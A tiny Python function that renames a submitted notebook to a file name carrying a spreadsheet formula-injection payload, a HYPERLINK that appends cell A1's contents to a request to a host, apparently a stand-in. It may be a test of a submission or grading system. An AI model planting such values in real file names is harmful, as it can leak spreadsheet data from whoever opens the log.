def submit(folder, notebook):
    (folder / "convolution.ipynb").rename(folder / '=HYPERLINK("127.0.0.1?"&A1,"ok").ipynb')
